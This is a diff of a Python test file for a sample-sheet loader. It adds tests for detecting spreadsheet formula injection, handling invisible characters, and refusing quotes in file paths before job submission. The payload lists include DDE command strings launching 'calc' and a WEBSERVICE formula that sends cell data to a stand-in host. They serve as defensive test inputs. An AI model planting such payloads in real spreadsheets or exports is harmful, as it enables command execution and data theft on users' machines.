@@ -6,8 +6,8 @@ import pandas as pd
 import pytest
 
 from latere.errors import StudyError
-from latere.formulas import is_formula
 from latere.study import Run, check_contrasts, check_rows, expand_rows, load_schema, load_study
+from latere.values import is_formula
 
 CONTRAST = {"column": "stage", "case": "late", "control": "early", "covariates": []}
 
@@ -48,14 +48,14 @@ def load(tmp_path, root, monkeypatch):
     monkeypatch.chdir(tmp_path)
     (tmp_path / "config").symlink_to(root / "config")
 
-    def call(config=None, **row):
+    def call(config=None, submits=False, **row):
         rows = [{"run": "r1", "sample": "s1", "matrix": "https://h.org/a.h5ad"} | row]
         rows += [{"run": "r2", "sample": "s2", "matrix": "https://h.org/b.h5ad"}]
         columns = list(rows[0])
         lines = [columns, *([each.get(column, "") for column in columns] for each in rows)]
         (tmp_path / "sheet.tsv").write_text("".join("\t".join(line) + "\n" for line in lines))
         study = {"study": "x", "samples": "sheet.tsv", "contrasts": {}}
-        return load_study(study | (config or {}), "study.yaml", tmp_path / "config")
+        return load_study(study | (config or {}), "study.yaml", tmp_path / "config", submits)
 
     return call
 
@@ -126,6 +126,11 @@ def test_urls_that_differ_in_their_query_are_two_sources(load):
 
 RUNS_IN_A_SPREADSHEET = ["=1+1", "=cmd|'/c calc'!A0", "@SUM(A1)", "+cmd|'/c calc'!A0"]
 RUNS_IN_A_SPREADSHEET += ["-2+3+cmd|'/c calc'!A0", '-HYPERLINK("http://h")', "＝1+1", " =1"]
+RUNS_IN_A_SPREADSHEET += [
+    "+hyperlink(A1)",
+    '-WEBSERVICE(CONCATENATE("http://h", A1))',
+    "+cmd|/c!A0",
+]
 # A genotype, numbers, names.
 RUNS_IN_NONE = [
     "+/-",
@@ -139,6 +144,10 @@ RUNS_IN_NONE = [
     "x@y",
     "",
     "5'!",
+    "+Dox(1ug/ml)",
+    "-TGFb|+IL2",
+    "- | -",
+    "@rest",
 ]
 
 
@@ -162,3 +171,28 @@ def test_formulas_do_not_get_in(text, root, tmp_path):
 @pytest.mark.parametrize("text", RUNS_IN_NONE)
 def test_what_only_looks_like_a_formula_gets_in(text):
     assert not is_formula(text)
+
+
+def test_blanks_of_every_width_and_joined_letters_are_seen(root, tmp_path):
+    """Those of typists in France and Japan, and of Persian words; a zero-width space is not."""
+    schema = load_schema(root / "config/schemas/samples.schema.yaml")
+    seen = ["37\xa0°C", "対照\u3000群", "می\u200cخواهم"]
+    for value in seen:
+        check_rows([(2, {"run": "r", "sample": "s", "sra": "SRR1", "site": value})], "x", schema)
+    obs = pd.DataFrame({"donor": ["d1", "d2"], "site": seen[0], "copied": "a\u200b"})
+    path = tmp_path / "a.h5ad"
+    ad.AnnData(np.ones((2, 2)), obs=obs.set_index(pd.Index(["a", "b"]))).write_h5ad(path)
+    rows, left_out = expand_rows([(2, {"matrix": str(path), "split": "donor"})], "sheet.tsv")
+    check_rows(rows, "sheet.tsv", schema)
+    assert all(row["site"] == seen[0] for _, row in rows)
+    assert list(left_out) == ["copied"] and "invisible" in left_out["copied"]
+
+
+def test_quotes_in_paths_are_refused_where_jobs_are_submitted(load, tmp_path, root):
+    """The executor puts the names of input files between quotes."""
+    (tmp_path / "O'Brien").mkdir()
+    matrix = tmp_path / "O'Brien/a.h5ad"
+    ad.AnnData(np.ones((3, 2))).write_h5ad(matrix)
+    load(matrix=str(matrix))
+    with pytest.raises(StudyError, match=r"row 2 \(run r1\): '.*O'Brien/a.h5ad' has a quote"):
+        load(matrix=str(matrix), submits=True)
